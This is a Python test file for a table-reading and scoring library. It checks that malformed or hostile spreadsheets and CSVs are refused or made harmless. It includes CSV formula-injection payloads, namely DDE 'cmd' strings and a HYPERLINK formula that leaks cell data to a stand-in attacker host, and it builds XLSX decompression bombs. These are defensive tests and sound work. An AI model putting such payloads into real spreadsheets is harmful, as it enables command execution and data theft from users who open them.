"""Every file read as its author meant it, or refused with a located IKxxx error (issue #12).

Each test pins a finding of the reliability review (`§n`) or of the newcomer's messy
spreadsheet (`newcomer §2`). Expected values are worked out by hand from the rulesets
below; data conversion goes through both doors (`evaluate` for one region, `evaluate_many`
for a table), files through `read_table` and the CLI.
"""

from __future__ import annotations

import json
import re
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

import indikator
from indikator import tables, xlsx
from indikator.cli import main
from indikator.data import Table
from indikator.readiness import readiness
from indikator.tables import evaluate_table, read_table, write_table

# akta: percent 0..100, bands at 80.1 → 0 or 50 points; jumlah: a count (0 or more), 10
# points from 1000 up; kode the region id (text).
RULES = """\
ruleset r { scale 0 to 60 region kode }
input kode: text
input akta: percent { missing zero }
input jumlah: count { missing zero }
indicator i_akta = bands akta { [0, 80.1) -> 0  [80.1, 100] -> 50 }
indicator i_jumlah = bands jumlah { [0, 1000) -> 0  [1000, inf) -> 10 }
group total = sum(i_akta, i_jumlah)
"""


@pytest.fixture(scope="module")
def rules() -> indikator.Ruleset:
    return indikator.loads(RULES)


def _codes(error: pytest.ExceptionInfo[indikator.DataError]) -> list[str]:
    return [p.code for p in error.value.problems]


def _text(error: pytest.ExceptionInfo[indikator.DataError]) -> str:
    return "\n".join(p.render("en") for p in error.value.problems)


def _cli(*args: str | Path) -> Any:
    return CliRunner().invoke(main, [str(a) for a in args], prog_name="indikator")


def _ruleset_file(tmp_path: Path) -> Path:
    path = tmp_path / "r.ikr"
    path.write_text(RULES, encoding="utf-8")
    return path


# -- §2: an XLSX <dimension> that understates the sheet --------------------------------


def _rewrite(path: Path, part: str, change: Any) -> None:
    """Rewrite one part of a zip (a workbook) through `change(text) -> text`."""
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    parts[part] = change(parts[part].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def _workbook(path: Path, rows: list[list[Any]], formats: dict[str, str] | None = None) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Data"
    for row in rows:
        sheet.append(row)
    for cell, number_format in (formats or {}).items():
        sheet[cell].number_format = number_format
    book.save(path)
    return path


TEN = [["kode", "akta", "jumlah"]] + [[f"32{i:02d}", 90, 0] for i in range(1, 11)]


def test_xlsx_rows_outside_a_stale_dimension_are_read(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "stale.xlsx", TEN)
    _rewrite(path, "xl/worksheets/sheet1.xml", lambda x: re.sub(r'ref="[^"]+"', 'ref="A1:C4"', x))
    assert len(read_table(path)["kode"]) == 10  # not 3: the dimension claims rows 1-4
    result = _cli("evaluate", _ruleset_file(tmp_path), path, "--lang", "en")
    assert result.exit_code == 0, result.output
    assert "3210" in result.output  # the last region, in row 11


def test_xlsx_a_value_right_of_a_stale_dimension_is_refused(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "wide.xlsx", [["kode", "akta"], ["3201", 90]])
    _rewrite(
        path,
        "xl/worksheets/sheet1.xml",
        lambda x: x.replace("</row></sheetData>", '<c r="XFD2"><v>7</v></c></row></sheetData>'),
    )
    with pytest.raises(indikator.DataError) as error:
        read_table(path)
    assert "a value in column XFD (7)" in _text(error)


# -- §3: RFC 4180 quotes, and §11: formula injection -----------------------------------


def test_csv_doubled_quotes_are_one_quote(tmp_path: Path) -> None:
    path = tmp_path / "quotes.csv"
    path.write_text('kode,nama\n3201,"Kota ""Baru"" Utara"\n3202,"Kab. ""X"""\n', "utf-8")
    assert read_table(path)["nama"].tolist() == ['Kota "Baru" Utara', 'Kab. "X"']


NASTY = [
    'Kota "Baru" Utara',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1)',
    "+1+1",
    "-2",
    "\tTab",
    "'=already quoted",
    "Kab, A",
]


def test_csv_output_reads_back_every_text_as_written(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_table({"nama": NASTY, "total": [-5.0] * len(NASTY)}, path)
    back = read_table(path)
    assert back["nama"].tolist() == NASTY  # the tab of '\tTab' too: it was protected
    assert back["total"].tolist() == ["-5.0"] * len(NASTY)  # numbers are not protected
    write_table(back, path)  # a second round trip changes nothing
    assert read_table(path)["nama"].tolist() == NASTY


def test_csv_output_neutralises_formulas(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_table({"nama": NASTY, "total": [-5.0] * len(NASTY)}, path)
    lines = path.read_text(encoding="utf-8").splitlines()
    # Every cell a spreadsheet would run as a formula starts with "'" (OWASP).
    assert lines[2] == "'=cmd|' /C calc'!A0,-5.0"
    assert lines[3] == "'@SUM(1+1)*cmd|' /C calc'!A0,-5.0"
    assert lines[4] == '"\'=HYPERLINK(""http://evil.example/?leak=""&A1)",-5.0'
    assert lines[5] == "'+1+1,-5.0"
    assert lines[6] == "'-2,-5.0"
    assert lines[7] == "'\tTab,-5.0"
    assert lines[8] == "''=already quoted,-5.0"


def test_csv_quotes_round_trip_through_the_cli(tmp_path: Path) -> None:
    data = tmp_path / "q.csv"
    data.write_text('kode,akta,jumlah\n"32""01",90,0\n"=1+1",10,1000\n', encoding="utf-8")
    out = tmp_path / "out.csv"
    result = _cli("evaluate", _ruleset_file(tmp_path), data, "-o", out, "--lang", "en")
    assert result.exit_code == 0, result.output
    assert read_table(out)["region"].tolist() == ['32"01', "=1+1"]
    assert "'=1+1" in out.read_text(encoding="utf-8")


# -- §6: chunks number id-less rows across the whole table -----------------------------


def test_chunks_name_regions_without_id_by_their_global_row() -> None:
    ruleset = indikator.loads(
        RULES.replace("input kode: text", "input kode: text { missing zero }")
    )
    kode = np.array([f"K{i}" for i in range(7)], dtype=object)
    kode[[1, 5]] = None  # rows 2 and 6 of the table; row 6 is row 1 of the third chunk
    table = {"kode": kode, "akta": np.full(7, 90.0), "jumlah": np.zeros(7)}
    columns = evaluate_table(ruleset, table, chunk_rows=2)
    assert columns["region"] == ["K0", "row 2", "K2", "K3", "K4", "row 6", "K6"]


# -- §7: narrow floats -----------------------------------------------------------------

# 80.1 lies on the edge of [80.1, 100] → 50 points; float32 80.1 is 80.0999985 (0 points
# if widened as it is), float16 80.1 is 80.125 (the shortest text '80.1' again).


def test_float16_is_read_as_the_decimal_it_shows() -> None:
    # float16 80.1 is 80.125 in binary, above an edge at 80.11; it shows (and was typed
    # as) 80.1, below it: 0 points, not 50.
    rules = indikator.loads(RULES.replace("80.1", "80.11"))
    akta = np.array([80.1], dtype=np.float16)
    assert rules.evaluate_many({"kode": ["1"], "akta": akta, "jumlah": [0]})["i_akta"].tolist() == [
        0.0
    ]
    assert rules.evaluate({"kode": "1", "akta": akta[0], "jumlah": 0})["i_akta"] == 0.0


@pytest.mark.parametrize("dtype", [np.float32])
def test_narrow_numpy_floats_are_read_as_the_decimal_they_show(
    rules: indikator.Ruleset, dtype: Any
) -> None:
    table = {"kode": ["3201"], "akta": np.array([80.1], dtype=dtype), "jumlah": [0]}
    assert rules.evaluate_many(table)["i_akta"].tolist() == [50.0]
    one = {"kode": "3201", "akta": np.array([80.1], dtype=dtype)[0], "jumlah": 0}
    assert rules.evaluate(one)["i_akta"] == 50.0


_PANDAS: dict[str, Any] = {"float32": np.float32, "Float32": pd.Float32Dtype()}


@pytest.mark.parametrize("dtype", ["float32", "Float32"])
def test_narrow_pandas_floats_are_read_as_the_decimal_they_show(
    rules: indikator.Ruleset, dtype: str
) -> None:
    akta = pd.Series([80.1, None]).astype(_PANDAS[dtype])
    frame = pd.DataFrame({"kode": ["1", "2"], "akta": akta})
    frame["jumlah"] = 0
    # Row 1: 80.1 on the edge → 50; row 2: empty akta → 0 (missing zero).
    assert rules.evaluate_many(frame)["i_akta"].tolist() == [50.0, 0.0]


def test_narrow_arrow_and_parquet_floats_are_read_as_the_decimal_they_show(
    rules: indikator.Ruleset, tmp_path: Path
) -> None:
    arrow = pa.table(
        {
            "kode": ["1", "2"],
            "akta": pa.array([80.1, None], type=pa.float32()),
            "jumlah": pa.array([0, 0], type=pa.int64()),
        }
    )
    assert rules.evaluate_many(arrow)["i_akta"].tolist() == [50.0, 0.0]
    path = tmp_path / "f32.parquet"
    pq.write_table(arrow, path)
    assert rules.evaluate_many(read_table(path))["i_akta"].tolist() == [50.0, 0.0]
    result = _cli("evaluate", _ruleset_file(tmp_path), path, "--lang", "en")
    assert result.exit_code == 0, result.output
    assert re.search(r"^1\s+50\b", result.output, flags=re.MULTILINE)


# -- §9: crashes become located errors -------------------------------------------------


def test_deeply_nested_json_is_a_located_error(tmp_path: Path) -> None:
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(indikator.DataError) as error:
        read_table(path)
    assert _codes(error) == ["IK503"]
    assert f"'{path}' nests lists or objects too deeply" in _text(error)
    result = _cli("evaluate", _ruleset_file(tmp_path), path, "--lang", "en")
    assert result.exit_code == 1
    assert "error[IK503]" in result.output
    assert "Traceback" not in result.output


def test_a_5000_digit_json_number_is_a_located_error(tmp_path: Path) -> None:
    path = tmp_path / "big.json"
    path.write_text('[{"kode": "1", "akta": ' + "9" * 5000 + "}]", encoding="utf-8")
    with pytest.raises(indikator.DataError) as error:
        read_table(path)
    assert _codes(error) == ["IK503"]
    assert f"'{path}' holds a number of thousands of digits" in _text(error)


def test_a_csv_cell_over_the_field_limit_is_a_located_error(tmp_path: Path) -> None:
    path = tmp_path / "long.csv"
    path.write_text("kode,akta\n1,90\n2," + "9" * 200_000 + "\n", encoding="utf-8")
    with pytest.raises(indikator.DataError) as error:
        read_table(path)
    assert _text(error).startswith(f"error[IK503]: '{path}' row 3 cannot be read: field larger")
    result = _cli("readiness", _ruleset_file(tmp_path), path, "--lang", "en")
    assert result.exit_code == 1
    assert "row 3 cannot be read" in result.output


def test_truncated_xlsx_xml_is_a_located_error(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "bad.xlsx", TEN)
    _rewrite(path, "xl/worksheets/sheet1.xml", lambda x: x[: len(x) // 2])
    with pytest.raises(indikator.DataError) as error:
        read_table(path)
    assert _codes(error) == ["IK503"]
    assert f"'{path}', sheet 'Data' is not a readable Excel workbook" in _text(error)
    result = _cli("evaluate", _ruleset_file(tmp_path), path)
    assert result.exit_code == 1
    assert "Traceback" not in result.output


def test_a_two_dimensional_column_is_a_located_error(rules: indikator.Ruleset) -> None:
    table = {"kode": ["1", "2", "3"], "akta": np.ones((3, 2)), "jumlah": [0, 0, 0]}
    with pytest.raises(indikator.DataError) as error:
        rules.evaluate_many(table)
    assert _text(error) == (
        "error[IK503]: column 'akta' is an array of shape 3 x 2: a column is one value per region"
    )


# -- §13: decompression bombs ----------------------------------------------------------


def test_an_xlsx_decompression_bomb_is_refused_before_reading(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "bomb.xlsx", [["kode", "akta"], ["bom", 1]])
    # 20 MiB of one letter packs into about 20 KB: a ratio no real sheet has.
    _rewrite(
        path, "xl/worksheets/sheet1.xml", lambda x: x.replace(">bom<", ">" + "a" * (20 << 20) + "<")
    )
    with pytest.raises(indikator.DataError) as error:
        read_table(path)
    assert _codes(error) == ["IK515"]
    assert "part 'xl/worksheets/sheet1.xml' unpacks to 20972188 bytes" in _text(error)


def test_an_xlsx_part_above_the_absolute_limit_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = _workbook(tmp_path / "big.xlsx", TEN)
    monkeypatch.setattr(xlsx, "PART_LIMIT", 1000)  # the sheet's XML is about 2 KB
    with pytest.raises(indikator.DataError) as error:
        read_table(path)
    assert _codes(error) == ["IK515"]


def test_an_xlsx_cell_longer_than_excel_allows_is_refused(tmp_path: Path) -> None:
    path = _workbook(tmp_path / "long.xlsx", [["kode", "akta"], ["panjang", 1]])
    _rewrite(path, "xl/worksheets/sheet1.xml", lambda x: x.replace("panjang", "x" * 40_000))
    with pytest.raises(indikator.DataError) as error:
        read_table(path)
    assert _text(error) == (
        f"error[IK515]: '{path}', sheet 'Data', cell A2 holds 40000 characters; Excel keeps "
        "at most 32767"
    )


# -- §15: formulas without a saved value -----------------------------------------------


def test_uncached_formulas_are_refused_naming_the_cells(tmp_path: Path) -> None:
    # openpyxl never calculates: its formulas have no saved value, as in the review.
    path = _workbook(tmp_path / "f.xlsx", [["kode", "akta", "jumlah"], ["3201", "=2*50", 0]])
    with pytest.raises(indikator.DataError) as error:
        read_table(path)
    assert _text(error) == (
        f"error[IK514]: '{path}', sheet 'Data': 1 formula cell(s) have no saved value (B2); "
        "the program that wrote the workbook did not calculate them. Open and save it in "
        "Excel or LibreOffice"
    )
    result = _cli("evaluate", _ruleset_file(tmp_path), path)
    assert result.exit_code == 1
    assert "kesalahan[IK514]" in result.output


def test_formulas_with_a_saved_value_are_read_as_it(tmp_path: Path) -> None:
    path = _workbook(
        tmp_path / "f.xlsx",
        [["kode", "akta", "jumlah"], ["3201", "=2*50", 0]],
        formats={"B2": "0.00%"},
    )
    # As Excel saves it: the formula and its value (0.85, shown as 85.00 %).
    _rewrite(
        path,
        "xl/worksheets/sheet1.xml",
        lambda x: x.replace("<f>2*50</f><v />", "<f>2*50</f><v>0.85</v>"),
    )
    read = read_table(path)
    assert str(read["akta"][0]) == "85%"
    rules = indikator.loads(RULES)
    assert rules.evaluate_many(read)["i_akta"].tolist() == [50.0]  # 85 ≥ 80.1


# -- newcomer §2: Excel percent cells --------------------------------------------------


def test_percent_formatted_cells_are_read_as_the_percentage_they_show(tmp_path: Path) -> None:
    rows: list[list[Any]] = [["kode", "akta", "jumlah"], ["3201", 0.8118, 0], ["3202", 0.801, 0]]
    path = _workbook(tmp_path / "p.xlsx", rows, formats={"B2": "0.00%", "B3": "0.0%"})
    rules = indikator.loads(RULES)
    results = rules.evaluate_many(read_table(path))
    # 81.18 ≥ 80.1 → 50; 80.1 on the edge → 50 (never 0.8118 or 0.801 → 0).
    assert results["i_akta"].tolist() == [50.0, 50.0]
    cell = read_table(path)["akta"][0]
    assert rules.evaluate({"kode": "3201", "akta": cell, "jumlah": 0})["i_akta"] == 50.0
    result = _cli("evaluate", _ruleset_file(tmp_path), path, "--lang", "en")
    assert result.exit_code == 0, result.output
    assert re.search(r"^3201\s+50\b", result.output, flags=re.MULTILINE)
    ready = _cli("readiness", _ruleset_file(tmp_path), path, "--lang", "en")
    assert ready.exit_code == 0, ready.output


def test_percent_formatted_cells_keep_their_value_for_other_inputs(tmp_path: Path) -> None:
    text = RULES.replace("count { missing zero }", "number { range 0 to 1 missing zero }")
    text = text.replace("[0, 1000) -> 0  [1000, inf) -> 10", "[0, 0.5) -> 0  [0.5, 1] -> 10")
    rules = indikator.loads(text)
    rows: list[list[Any]] = [["kode", "akta", "jumlah"], ["3201", 90, 0.75]]
    path = _workbook(tmp_path / "p.xlsx", rows, formats={"C2": "0%"})
    # A ratio shown as 75 % is the number 0.75 for a `number` input: 0.75 ≥ 0.5 → 10.
    assert rules.evaluate_many(read_table(path))["i_jumlah"].tolist() == [10.0]


def test_percent_cells_beside_plain_fractions_are_refused(tmp_path: Path) -> None:
    rows: list[list[Any]] = [
        ["kode", "akta", "jumlah"],
        ["3201", 0.8118, 0],
        ["3202", 0.85, 0],
        ["3203", 92, 0],
    ]
    path = _workbook(tmp_path / "p.xlsx", rows, formats={"B2": "0.00%"})
    with pytest.raises(indikator.DataError) as error:
        indikator.loads(RULES).evaluate_many(read_table(path))
    assert _codes(error) == ["IK513"]
    assert _text(error).startswith(
        "error[IK513]: column 'akta': 1 cell(s) are formatted as percentages (e.g. 81.18%), "
        "and 1 others hold plain numbers from 0 to 1 (e.g. 0.85)"
    )
    assert "regions: 3202 (0.85)" in _text(error)  # 92 is a plain percentage: no doubt


# -- newcomer §2: numbers written in Indonesian notation -------------------------------


def test_indonesian_csv_is_read_with_locale_id(tmp_path: Path) -> None:
    path = tmp_path / "id.csv"
    path.write_text("kode;akta;jumlah\n3201;85,5;1.000\n3202;80%;999\n", encoding="utf-8")
    rules = indikator.loads(RULES)
    results = rules.evaluate_many(read_table(path, locale="id"))
    # 85.5 → 50 and 1000 → 10; 80 % → 80 < 80.1 → 0 and 999 → 0.
    assert results["total"].tolist() == [60.0, 0.0]
    result = _cli("evaluate", _ruleset_file(tmp_path), path, "--locale", "id", "--lang", "en")
    assert result.exit_code == 0, result.output
    assert re.search(r"^3201\s+60\b", result.output, flags=re.MULTILINE)
    assert re.search(r"^3202\s+0\b", result.output, flags=re.MULTILINE)


def test_without_a_locale_one_point_000_is_never_one(
    rules: indikator.Ruleset, tmp_path: Path
) -> None:
    row = {"kode": "3201", "akta": "90", "jumlah": "1.000"}
    for run in (rules.evaluate, lambda r: rules.evaluate_many({k: [v] for k, v in r.items()})):
        with pytest.raises(indikator.DataError) as error:
            run(row)
        assert _codes(error) == ["IK512"]
        assert "--locale id (Python: locale='id')" in _text(error)
    path = tmp_path / "d.csv"
    path.write_text("kode,akta,jumlah\n3201,90,1.000\n", encoding="utf-8")
    result = _cli("evaluate", _ruleset_file(tmp_path), path, "--lang", "en")
    assert result.exit_code == 1
    assert "error[IK512]" in result.output
    assert "--locale id" in result.output
    # Declared, it is one thousand (10 points), or one (0 points).
    assert rules.evaluate_many(read_table(path, locale="id"))["i_jumlah"].tolist() == [10.0]
    assert rules.evaluate_many(read_table(path, locale="en"))["i_jumlah"].tolist() == [0.0]


def test_three_decimals_are_decimals_where_no_thousand_fits(rules: indikator.Ruleset) -> None:
    # akta is a percentage: '80.100' cannot be 80,100 %, so it is 80.1 → 50 points.
    assert rules.evaluate({"kode": "1", "akta": "80.100", "jumlah": 0})["i_akta"] == 50.0


def test_three_decimals_in_a_column_of_decimal_points_are_decimals(
    rules: indikator.Ruleset,
) -> None:
    # A count of '1.500' beside '2': one and a half, or 1500? Nothing tells: refused.
    table = {"kode": ["1", "2"], "akta": ["90", "90"], "jumlah": ["2", "1.500"]}
    with pytest.raises(indikator.DataError, match="IK512"):
        rules.evaluate_many(table)
    # Beside '2.25', which Indonesian notation cannot write, it is 1.5 (< 1000 → 0), not
    # 1500 (→ 10).
    text = RULES.replace("count { missing", "number { range 0 to 1000000 missing")
    table["jumlah"] = ["2.25", "1.500"]
    assert indikator.loads(text).evaluate_many(table)["i_jumlah"].tolist() == [0.0, 0.0]


def test_a_decimal_comma_names_the_locale(rules: indikator.Ruleset) -> None:
    row = {"kode": "3201", "akta": "85,5", "jumlah": 0}
    for run in (rules.evaluate, lambda r: rules.evaluate_many({k: [v] for k, v in r.items()})):
        with pytest.raises(indikator.DataError) as error:
            run(row)
        assert _codes(error) == ["IK503"]
        assert _text(error).startswith(
            "error[IK503]: column 'akta' has 1 value(s) in Indonesian notation such as '85,5'"
        )
        assert "--locale id" in _text(error)


@pytest.mark.parametrize("locale", [None, "id"])
def test_a_percent_sign_is_read_for_a_percent_input(
    rules: indikator.Ruleset, locale: str | None
) -> None:
    text = "81.18%" if locale is None else "81,18 %"
    table = Table({"kode": ["1"], "akta": [text], "jumlah": [0]}, locale=locale)
    assert rules.evaluate_many(table)["i_akta"].tolist() == [50.0]  # 81.18 ≥ 80.1
    if locale is None:
        assert rules.evaluate({"kode": "1", "akta": text, "jumlah": 0})["i_akta"] == 50.0


def test_a_percent_sign_is_refused_for_other_inputs(rules: indikator.Ruleset) -> None:
    with pytest.raises(indikator.DataError) as error:
        rules.evaluate({"kode": "1", "akta": 90, "jumlah": "85%"})
    assert _codes(error) == ["IK503"]
    assert "with a percent sign such as '85%', but its input is not a percentage" in _text(error)


def test_a_point_under_locale_id_is_refused_with_the_fix(rules: indikator.Ruleset) -> None:
    table = Table({"kode": ["1"], "akta": ["85.5"], "jumlah": [0]}, locale="id")
    with pytest.raises(indikator.DataError) as error:
        rules.evaluate_many(table)
    assert "but the data is read with --locale id, where a point groups thousands" in _text(error)


def test_an_unknown_locale_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "d.csv"
    path.write_text("kode\n1\n", encoding="utf-8")
    with pytest.raises(indikator.DataError, match="unknown number notation"):
        read_table(path, locale="fr")


# -- §16: lenient or lossy cells -------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["nan", "NaN", "inf", "-Infinity", "8_5", "٨٥", "\uff18\uff15", "0x55", "85 85"]
)
def test_texts_that_python_reads_as_numbers_are_not_numbers(
    rules: indikator.Ruleset, text: str
) -> None:
    row = {"kode": "3201", "akta": text, "jumlah": 0}
    for run in (rules.evaluate, lambda r: rules.evaluate_many({k: [v] for k, v in r.items()})):
        with pytest.raises(indikator.DataError) as error:
            run(row)
        assert _codes(error) == ["IK503"]
        assert error.value.problems[0].field == "akta"
    report = readiness(rules, {k: [v] for k, v in row.items()})
    assert [(p.column, p.kind) for p in report.problems] == [("akta", "invalid")]
    assert report.blocked


def test_nan_text_in_a_csv_is_reported_by_readiness(tmp_path: Path) -> None:
    path = tmp_path / "nan.csv"
    path.write_text("kode,akta,jumlah\n3201,nan,0\n3202,90,0\n", encoding="utf-8")
    result = _cli("readiness", _ruleset_file(tmp_path), path, "--lang", "en")
    assert result.exit_code == 1
    assert "1 invalid" in result.output
    assert "unreadable: 'nan'" in result.output


def test_masked_cells_are_missing(rules: indikator.Ruleset) -> None:
    akta = np.ma.array([90.0, 90.0], mask=[False, True])
    jumlah = np.ma.array([2000, 2000], mask=[True, False])
    results = rules.evaluate_many({"kode": ["1", "2"], "akta": akta, "jumlah": jumlah})
    # Row 1: akta 90 → 50, jumlah masked → 0; row 2: akta masked → 0, jumlah 2000 → 10.
    assert results["total"].tolist() == [50.0, 10.0]


def test_integer_ids_beyond_two_to_the_53_stay_exact(rules: indikator.Ruleset) -> None:
    ids = [12345678901234567, 12345678901234569]  # the same float64
    results = rules.evaluate_many({"kode": ids, "akta": [90, 90], "jumlah": [0, 0]})
    assert list(results.regions) == ["12345678901234567", "12345678901234569"]
    one = rules.evaluate({"kode": ids[0], "akta": 90, "jumlah": 0})
    assert one.region == "12345678901234567"


def test_parquet_binary_list_and_time_columns(rules: indikator.Ruleset, tmp_path: Path) -> None:
    path = tmp_path / "t.parquet"
    table = pa.table(
        {
            "kode": pa.array([b"3201", b"3202"]),
            "akta": pa.array([90.0, 10.0]),
            "jumlah": pa.array([0, 0]),
        }
    )
    pq.write_table(table, path)
    assert list(rules.evaluate_many(read_table(path)).regions) == ["3201", "3202"]
    pq.write_table(table.set_column(0, "kode", pa.array([["3201"], ["3202"]])), path)
    with pytest.raises(indikator.DataError) as error:
        read_table(path)
    assert _text(error) == (
        f"error[IK503]: '{path}' record 1, column 'kode': a nested list where a single value "
        "belongs"
    )
    seconds = pa.array([1000, 2000], type=pa.duration("s"))
    pq.write_table(table.set_column(2, "jumlah", seconds), path)
    with pytest.raises(indikator.DataError) as error:
        rules.evaluate_many(read_table(path))  # not 1000 seconds read as 1000
    assert "column 'jumlah' has 2 value(s) that are not numbers" in _text(error)
    stamps = pa.array([0, 0], type=pa.timestamp("s"))
    pq.write_table(table.set_column(2, "jumlah", stamps), path)
    assert read_table(path)["jumlah"].tolist() == ["1970-01-01T00:00:00"] * 2


def test_complex_values_are_not_numbers(rules: indikator.Ruleset) -> None:
    for akta in (np.array([90 + 1j]), [90 + 1j], [np.complex128(90)]):
        with pytest.raises(indikator.DataError) as error:
            rules.evaluate_many({"kode": ["1"], "akta": akta, "jumlah": [0]})
        assert _codes(error) == ["IK503"]


# -- §20: replacing an output file -----------------------------------------------------


def test_replacing_a_private_output_keeps_it_private(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    path.write_text("old\n", encoding="utf-8")
    path.chmod(0o600)
    write_table({"a": [1.0]}, path)
    assert path.stat().st_mode & 0o777 == 0o600
    assert read_table(path)["a"].tolist() == ["1.0"]


def test_a_write_failure_names_the_output_not_its_temporary(tmp_path: Path) -> None:
    missing = tmp_path / "no" / "out.csv"
    with pytest.raises(OSError, match="No such file") as error:
        write_table({"a": [1.0]}, missing)
    assert error.value.filename == str(missing)

    def fails(temporary: Path) -> None:
        temporary.write_text("half", encoding="utf-8")
        raise OSError(28, "No space left on device", str(temporary))

    target = tmp_path / "out.json"
    with pytest.raises(OSError, match="No space left") as error:
        tables.replace_atomically(target, fails)
    assert error.value.filename == str(target)
    assert list(tmp_path.iterdir()) == []  # the temporary is gone
    result = _cli("evaluate", _ruleset_file(tmp_path), _write_data(tmp_path), "-o", missing)
    assert result.exit_code == 1
    assert f"'{missing}'" in result.output
    assert ".part" not in result.output


def _write_data(tmp_path: Path) -> Path:
    path = tmp_path / "d.csv"
    path.write_text("kode,akta,jumlah\n3201,90,0\n", encoding="utf-8")
    return path


def test_a_symlinked_output_keeps_its_link(tmp_path: Path) -> None:
    target = tmp_path / "real.json"
    target.write_text("[]", encoding="utf-8")
    link = tmp_path / "link.json"
    link.symlink_to(target)
    write_table({"a": [1.0]}, link)
    assert link.is_symlink()
    assert json.loads(target.read_text(encoding="utf-8")) == [{"a": 1.0}]


# -- the common path stays fast --------------------------------------------------------


def test_float64_columns_take_no_detour(monkeypatch: pytest.MonkeyPatch) -> None:
    from indikator import cells  # noqa: PLC0415

    def no_text(*_: Any) -> Any:
        raise AssertionError

    monkeypatch.setattr(cells, "_text_numbers", no_text)
    monkeypatch.setattr(cells, "_each_number", no_text)
    numbers, bad = cells.parse_numbers(np.arange(1_000_000, dtype=np.float64))
    assert not bad.any()
    assert numbers[-1] == 999_999.0


def test_readiness_reads_numbers_as_evaluate_does(rules: indikator.Ruleset, tmp_path: Path) -> None:
    table = {"kode": ["1", "2"], "akta": ["85%", "80.100"], "jumlah": ["1.000", "7"]}
    report = readiness(rules, table, lang="en")
    # '85%' and '80.100' are percentages (85, 80.1): fine; '1.000' may be 1 or 1000.
    assert [(p.region, p.column, p.kind) for p in report.problems] == [("1", "jumlah", "ambiguous")]
    assert report.problems[0].describe("en") == "ambiguous, declare --locale id or en: '1.000'"
    indonesian = {**table, "akta": ["85%", "80,1"]}
    assert not readiness(rules, Table(indonesian, locale="id")).problems
    path = tmp_path / "d.csv"
    path.write_text("kode;akta;jumlah\n1;85,5;1.000\n", encoding="utf-8")
    result = _cli("readiness", _ruleset_file(tmp_path), path, "--locale", "id", "--lang", "en")
    assert result.exit_code == 0, result.output
